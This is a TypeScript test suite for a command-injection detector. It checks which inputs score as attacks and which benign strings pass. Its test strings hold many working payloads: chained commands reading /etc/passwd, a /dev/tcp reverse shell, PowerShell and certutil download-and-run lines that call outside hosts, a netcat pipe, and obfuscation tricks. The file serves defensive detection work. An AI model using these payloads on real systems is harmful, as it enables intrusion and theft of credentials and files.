// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` lookups and templates.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { viewsOf } from '../../decode/views.ts';
import type { InputKind } from '../../types.ts';
import { cmdiDetector } from './cmdi.ts';

/** The strongest score per rule for one value. */
function scores(value: string, kind: InputKind = 'query', location = 'query.q'): Map<string, number> {
  const out = new Map<string, number>();
  for (const hit of cmdiDetector.detect(viewsOf(value), kind, location))
    out.set(hit.rule, Math.max(out.get(hit.rule) ?? 0, hit.score));
  return out;
}

function strongest(value: string, kind?: InputKind, location?: string): number {
  return Math.max(0, ...scores(value, kind, location).values());
}

describe('cmdi detector', () => {
  test('finds commands chained after separators', () => {
    assert.equal(scores(';id').get('cmdi.chained-command'), 5);
    assert.equal(scores('127.0.0.1 | cat /etc/passwd').get('cmdi.chained-command'), 5);
    assert.equal(scores("'&& whoami").get('cmdi.chained-command'), 5);
    // After a line break inside text: medium at paranoia 1, full weight from paranoia 2.
    assert.equal(scores('a%0aid').get('cmdi.chained-command.weak'), 3);
    assert.equal(scores('a%0aid').get('cmdi.documented'), 5);
  });

  test('finds substitution, quote-split words and $IFS spacing', () => {
    assert.equal(scores('$(whoami)').get('cmdi.substitution'), 5);
    assert.equal(scores('x`uname -a`').get('cmdi.substitution'), 5);
    assert.equal(strongest(";w'h'o'am'i"), 5);
    assert.equal(strongest(';cat${IFS}/etc/passwd'), 5);
    assert.equal(strongest('|/usr/bin/id'), 5);
  });

  test('finds reverse-shell idioms and exec calls', () => {
    assert.equal(strongest('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), 5);
    assert.equal(strongest("system('cat /etc/passwd');"), 5);
  });

  test('weighs a command in a Markdown code span as evidence that needs company (so paranoia 2 lets it through)', () => {
    for (const doc of [
      'List files: `ls -la`',
      'Edit a file as the superuser: `sudo -e /etc/fstab`',
      'Decode a file: `base64 -d path/to/file`',
      'Decode text: `echo aGk= | base64 -d`',
      'Mount all the filesystems: `mount -a`',
    ])
      assert.ok(strongest(doc) <= 1, doc);
    assert.equal(scores('See: `cat /etc/passwd`').get('cmdi.code-span'), 1);
    assert.equal(scores('Run: `ls; cat /etc/passwd`').get('cmdi.documented'), 5);
  });

  test('reads a backtick after a number or a lone letter as a substitution, after prose as a code span', () => {
    // What a payload appended to a numeric or one-letter value looks like (`ping -c 1 `sleep 5``).
    for (const payload of ['1 `sleep 5`', 'x `cat /etc/passwd`', '42 `id`']) {
      assert.equal(strongest(payload), 5, payload);
    }
    // Prose in any script before the span: documentation.
    for (const doc of ['hello `uname -a`', 'запустите `ls -la`', '1. Install it: `npm install`']) {
      assert.ok(strongest(doc) <= 1, doc);
    }
  });

  test('lets documentation with code spans and prose through at paranoia 1', () => {
    for (const benign of [
      'List files: `ls -la`',
      'Show the log: `journalctl -u nginx | grep error`',
      'See also: `tcsh`.',
      "'Clarence is come; false, fleeting, perjured Clarence,",
      'Tom & Jerry; cats and mice',
    ]) {
      assert.ok(strongest(benign) < 5, benign);
    }
  });

  test('finds cmd.exe idioms, carets and PowerShell', () => {
    assert.equal(scores('& for /f "tokens=*" %i in (\'whoami\') do echo %i').get('cmdi.windows-idiom'), 5);
    assert.equal(scores('| if %USERNAME% equ admin (dir)').get('cmdi.windows-idiom'), 5);
    assert.equal(
      scores('x & certutil -urlcache -split -f http://203.0.113.9/a.exe').get('cmdi.windows-idiom'),
      5,
    );
    assert.equal(strongest('&& w^h^o^a^m^i'), 5);
    assert.equal(
      scores('IEX (New-Object Net.WebClient).DownloadString("http://x/a")').get('cmdi.powershell'),
      5,
    );
    assert.equal(scores('x -ep bypass -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A').get('cmdi.powershell'), 5);
    assert.equal(strongest('; Invoke-Expression $env:X'), 5);
    assert.equal(strongest('; Get-ChildItem C:\\'), 5);
    assert.equal(strongest('| get-content c:\\windows\\win.ini'), 5);
  });

  test('finds obfuscated Unix commands: globs, braces, escapes, slices, here-strings, empty expansions', () => {
    assert.equal(scores(';/???/c?t /??c/p??s??').get('cmdi.glob-path'), 5);
    assert.equal(scores(';/bin/c[a]t /etc/passwd').get('cmdi.glob-path'), 5);
    assert.equal(scores('/eval/[a]dd a file to an archive', 'path').get('cmdi.glob-path'), undefined);
    assert.equal(scores('/eval/[s]et up a new entry', 'path').get('cmdi.glob-path'), undefined);
    // A build tool's globstar (`test/**/*.js` in package.json scripts) names no hidden file.
    assert.equal(scores("mocha 'test/**/*.test.js' --exit", 'body').get('cmdi.glob-path'), undefined);
    assert.equal(scores(';{cat,/etc/passwd}').get('cmdi.brace-expansion'), 5);
    assert.equal(scores(';$(printf "\\x69\\x64")').get('cmdi.encoded-command'), 5);
    assert.equal(scores('echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh').get('cmdi.encoded-command'), 5);
    assert.equal(scores(';${PATH:0:1}bin${PATH:0:1}id').get('cmdi.variable-slice'), 5);
    assert.equal(scores('$(tr "[A-Z]" "[a-z]"<<<"WHOAMI")').get('cmdi.here-string'), 5);
    assert.equal(strongest(';c${u}at /e${u}tc/pa${u}sswd'), 5);
  });

  test('reads a substitution right after a separator, decoders and variables at a command position', () => {
    assert.equal(scores(';$(whoami)').get('cmdi.substitution'), 5);
    assert.equal(scores(';$(echo d2hvYW1p|base64 -d)').get('cmdi.encoded-command'), 5);
    assert.equal(scores('a=who;b=ami;$a$b').get('cmdi.variable-exec'), 5);
    assert.equal(strongest(';ca$(u)t /etc/passwd'), 5);
    for (const value of ['a; $(date) b', 'price; $5$10', 'Decode: `echo aGk= | base64 -d`'])
      assert.ok(strongest(value) < 3, value);
  });

  test('reads escapes after the percent layer that cookies and paths keep in their raw value', () => {
    assert.equal(scores('%3B%24(printf%20%22%5Cx69%5Cx64%22)', 'cookie').get('cmdi.encoded-command'), 5);
    assert.equal(scores('%60%24%27%5Cx77%5Cx68%5Cx6f%27%60', 'cookie').get('cmdi.encoded-command'), 5);
  });

  test('finds ANSI-C quoted escapes after letters and decoders fed an inline literal in a substitution', () => {
    assert.equal(scores("`echo $'cat\\x20\\x2f\\x65\\x74\\x63'`").get('cmdi.encoded-command'), 5);
    assert.equal(scores('cat `xxd -r -p <<< 2f6574632f706173737764`').get('cmdi.encoded-command'), 5);
    assert.equal(scores('cat `xxd -r -ps <(echo 2f6574632f706173737764)`').get('cmdi.encoded-command'), 5);
    assert.equal(scores('a=$(echo imaohw | rev)').get('cmdi.encoded-command'), 5);
    assert.equal(scores('x=$(git rev-parse HEAD)').get('cmdi.encoded-command'), undefined);
    assert.equal(scores("It costs $'5' each").get('cmdi.encoded-command'), undefined);
  });

  test('reads a line break written as an escape as a separator where one may lead', () => {
    for (const payload of ['\\nid;', ';id\\n', '"\\r\\nwhoami', '\\nid|'])
      assert.equal(scores(payload).get('cmdi.chained-command'), 5, payload);
    for (const value of ['C:\\new\\id', 'C:\\nodejs\\node.exe', 'line1\\nid est laborum'])
      assert.equal(strongest(value), 0, value);
  });

  test('finds a bare drive, tool lookups, net enumeration and Meterpreter sysinfo', () => {
    assert.equal(strongest('+dir+c:+|'), 5);
    assert.equal(scores(';dir c:"').get('cmdi.chained-command'), 5);
    assert.equal(scores('which nc').get('cmdi.command-line'), 5);
    assert.equal(scores('net view').get('cmdi.command-line'), 5);
    assert.equal(scores('net user /domain').get('cmdi.command-line'), 5);
    assert.equal(scores('; sysinfo').get('cmdi.chained-command'), 5);
    for (const value of [
      'which one do you prefer',
      'which python version',
      'which cat',
      'net share of revenue',
      'Time: 5 a: b',
    ])
      assert.equal(strongest(value), 0, value);
  });

  test('finds a value that is only a substitution of true or false (a blind probe)', () => {
    for (const payload of ['`true`', '"`false`"', '$(false)'])
      assert.equal(scores(payload).get('cmdi.substitution'), 5, payload);
    for (const value of ['Set it to `true` to enable', '`true` or `false`', 'a `false` start'])
      assert.ok(strongest(value) < 3, value);
  });

  test('from paranoia 2, a value of separators alone is a probe; a lone delimiter is not', () => {
    for (const probe of ['&& ', '|| ', '; ', '| ', '&&', '\n;'])
      assert.deepEqual(
        cmdiDetector.detect(viewsOf(probe), 'query', 'query.q').map((h) => [h.rule, h.paranoia, h.score]),
        [['cmdi.separator-probe', 2, 3]],
        JSON.stringify(probe),
      );
    for (const value of [';', '|', '&', '  ', '\n', 'a; b'])
      assert.equal(scores(value).get('cmdi.separator-probe'), undefined, JSON.stringify(value));
  });

  test('reads each segment of a path as a value a command line or separator may lead', () => {
    assert.equal(scores('/api/cat /etc/hosts', 'path').get('cmdi.command-line'), 5);
    assert.equal(scores('/eval/ls -l /', 'path').get('cmdi.command-line'), 5);
    assert.equal(scores('/api/%0A/usr/bin/id', 'path').get('cmdi.chained-command'), 5);
    assert.equal(strongest('Run /usr/bin/env python3 script.py', 'path'), 0);
    assert.equal(strongest('/docs/how to use ls', 'path'), 0);
  });

  test('leaves Windows paths, prose and templates that look like these alone', () => {
    for (const value of [
      'C:\\Program Files\\App\\app.exe',
      'Look for /foo in the logs',
      'if the price equals 5 then buy',
      'Hello ${name}, your order ${id} shipped',
      'x^2 + y^2 = z^2',
      'The {red,green,blue} palette',
      'GET /api/*/items',
      'Use the IEX exchange rates',
      'start the process manually',
    ])
      assert.equal(strongest(value, 'body', 'body.text'), 0, value);
  });

  test('finds interpreters given code after a pipe, a sleep probe and %COMSPEC% without shell syntax', () => {
    assert.equal(strongest("test* | perl -e 'print 1'"), 5);
    assert.equal(strongest('sleep 5'), 5);
    assert.equal(strongest('%COMSPEC% /c dir c:\\'), 5);
    assert.equal(strongest('Sleep 8 hours a night', 'body', 'body.text'), 0);
    assert.equal(strongest('cat data.csv | perl -pe s/a/b/', 'body', 'body.text') < 5, true);
  });

  test('an everyday command after a separator decides when its operand, past the options, is a system path', () => {
    assert.equal(scores('item; ls -la /var/www/html').get('cmdi.chained-command'), 5);
    assert.equal(scores('x|tail -f /var/log/auth.log').get('cmdi.chained-command'), 5);
    assert.ok(strongest('x; ls -la docs/') < 5);
  });

  test('a separator after an address leads, and a network probe at an address decides', () => {
    assert.equal(scores('127.0.0.1; ls -la').get('cmdi.chained-command'), 5);
    assert.equal(scores('example.com | ls').get('cmdi.chained-command'), 5);
    assert.equal(scores('x||ping -c 10 127.0.0.1||').get('cmdi.chained-command'), 5);
    assert.ok(strongest('see www.example.com; ping me later') < 3);
    assert.ok(strongest('Tom & Jerry; cats and mice') < 3);
  });

  test('a pipe into a shell runs what was piped into it', () => {
    assert.equal(scores('printf id|sh').get('cmdi.chained-command'), 5);
    assert.equal(scores('echo uname|$0').get('cmdi.chained-command'), 5);
    assert.equal(scores('words | bashful').get('cmdi.chained-command'), undefined);
  });

  test('a command stored in a variable with escaped quotes, then run by name', () => {
    assert.equal(scores("&&RUN=\\'uname -a\\';$RUN").get('cmdi.variable-exec'), 5);
    assert.equal(strongest("name=\\'Bob\\'; see $names"), 0);
  });
});

describe('cmdi on generated passwords', () => {
  test('carets count where they hide a command name; between random letters they spell nothing', () => {
    assert.equal(scores('c^m^d /c calc').get('cmdi.caret-obfuscation'), 5);
    assert.equal(scores('p^o^w^e^r^s^h^e^l^l -nop').get('cmdi.caret-obfuscation'), 5);
    for (const password of ['qcm[s!1^Y^JsIyn$92f', 'Xa^b^c7!kP#q', 'h^K^t9@zz'])
      assert.equal(scores(password).has('cmdi.caret-obfuscation'), false, password);
  });

  test('a separator after a command counts when a command, a comment or the end follows', () => {
    for (const attack of ['id;', 'id|nc 203.0.113.9 4444', 'w&&cat /etc/passwd', 'uname;#', 'id&`whoami`'])
      assert.equal(strongest(attack), 5, attack);
    for (const password of [
      'w&@SzO0sxuzl$X*BwbG@',
      'du&Uz*nxA3I@gA071Qcu',
      'RM&c8^yZrm4Hu%IBNJor',
      'At&gs$&M$^m$Jrgg',
    ])
      assert.ok(strongest(password) < 5, password);
  });
});
